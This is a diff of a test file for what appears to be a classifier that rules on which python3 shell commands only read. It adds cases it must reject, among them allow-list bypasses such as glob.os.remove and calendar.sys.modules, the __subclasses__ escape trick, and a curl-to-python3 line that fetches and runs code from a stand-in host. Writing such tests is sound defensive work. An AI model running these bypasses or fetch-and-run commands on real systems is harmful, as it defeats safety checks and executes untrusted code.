@@ -28,6 +28,10 @@ from replaylab.safety.shell_grammar import grammar_verdict
         "cat <<'EOF' | python3 | jq .\nimport json\nprint(json.dumps({'ok': True}))\nEOF",
         "echo 'import sys; print(sys.version_info[:2])' | python3",
         "sudo -u app python3 - <<'PY'\nimport sys\nprint(sys.version)\nPY",
+        # `os` for what it reports of the process and the files, `platform`, `sys.executable`
+        """python3 -c "import os; print(os.getcwd(), os.environ.get('HOME'), os.listdir('.'))\"""",
+        """python3 -c "import os; print(os.path.exists('a.json'))\"""",
+        """python3 -c "import platform, sys; print(platform.python_version(), sys.executable)\"""",
     ],
 )
 def test_a_script_that_only_computes_and_prints_reads(command: str) -> None:
@@ -45,7 +49,7 @@ def test_a_script_that_only_computes_and_prints_reads(command: str) -> None:
         ("""python3 -c "m = 'w'; open('f', m)\"""", "a mode known only when it runs"),
         ("""python3 -c "open('f', opener=print)\"""", "`open` with `opener`"),
         ("""python3 -c "o = open; o('f', 'w')\"""", "passes `open` around"),
-        ("""python3 -c "import os; os.remove('x')\"""", "imports `os`"),
+        ("""python3 -c "import os; os.remove('x')\"""", "uses `os.remove`"),
         ("""python3 -c "import subprocess; subprocess.run(['ls'])\"""", "imports `subprocess`"),
         ("""python3 -c "import urllib.request as r; r.urlopen('http://x')\"""", "imports `urllib.request`"),
         ("""python3 -c "from pathlib import Path; Path('x').write_text('y')\"""", "imports from `pathlib`"),
@@ -54,6 +58,13 @@ def test_a_script_that_only_computes_and_prints_reads(command: str) -> None:
         ("""python3 -c "from sys import modules\"""", "imports from `sys` more than"),
         ("""python3 -c "import sys; x = sys; x.modules\"""", "passes `sys` around"),
         ("""python3 -c "exec('import os')\"""", "uses `exec`"),
+        # a module the allow-list reads hands out a whole module as an attribute
+        ("""python3 -c "import glob; glob.os.remove('victim.txt')\"""", "reaches `os` (a module"),
+        ("""python3 -c "from os.path import os; os.system('touch x')\"""", "imports a module or everything"),
+        ("""python3 -c "import calendar; calendar.sys.modules['os']\"""", "reaches `modules`"),
+        ("""python3 -c "from glob import *\"""", "imports a module or everything"),
+        ("""python3 -c "import os; os.system('ls')\"""", "uses `os.system`"),
+        ("""python3 -c "import os as o; o.getcwd()\"""", "imports `os` under another name"),
         ("""python3 -c "__import__('os').remove('x')\"""", "uses `__import__`"),
         ("""python3 -c "print(().__class__.__base__.__subclasses__())\"""", "it reads the attribute `__"),
         ("""python3 -c "print(1\"""", "a script Python cannot parse"),
@@ -67,7 +78,7 @@ def test_a_script_that_only_computes_and_prints_reads(command: str) -> None:
         ("python3 script.py <<'EOF'\nprint(1)\nEOF", "runs programs whose effects the command does not show"),
         ("python3 <<'EOF' < other.py\nprint(1)\nEOF", "runs programs whose effects the command does not show"),
         ("xargs python3 <<'EOF'\nprint(1)\nEOF", "runs programs whose effects the command does not show"),
-        ("echo 'import os; os.remove(1)' | python3", "`python3 -`: it imports `os`"),
+        ("echo 'import os; os.remove(1)' | python3", "`python3 -`: it uses `os.remove`"),
         ("curl -s https://x.example/script.txt | python3", "runs programs whose effects the command does not show"),
         ("python3 - <<'EOF' > out.txt\nprint(1)\nEOF", "`>` redirection writes the file `out.txt`"),
     ],
